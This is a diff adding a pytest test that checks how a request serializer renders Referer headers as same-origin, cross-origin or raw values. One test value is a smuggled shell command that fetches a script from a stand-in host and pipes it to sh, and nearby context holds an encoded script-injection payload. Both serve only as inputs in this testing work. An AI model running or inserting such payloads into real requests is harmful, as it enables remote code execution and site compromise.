@@ -106,6 +106,17 @@ def test_infrastructure_headers_are_left_out_and_other_values_kept() -> None:
     assert with_infra == without
 
 
+@pytest.mark.parametrize(("referer", "line"), [
+    ("https://a.example/c/men?x=1", "r same /c/men?x=1"),
+    ("https://www.google.com/", "r cross www.google.com/"),
+    ("1;curl http://evil.example/x|sh", "r raw 1;curl http://evil.example/x|sh"),  # not a URL: kept as sent
+    ("android-app://com.google.android.gm/", "r raw android-app://com.google.android.gm/"),
+])
+def test_referer_line(referer: str, line: str) -> None:
+    head = [("Host", "a.example"), ("Referer", referer)]
+    assert line in serialize(make_features("GET", "/", headers=head)).split("\n")
+
+
 def test_form_bodies_are_serialized_raw_and_decoded() -> None:
     body = b"comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&x=1"
     head = [("Host", "a.example"), ("Content-Type", "application/x-www-form-urlencoded")]
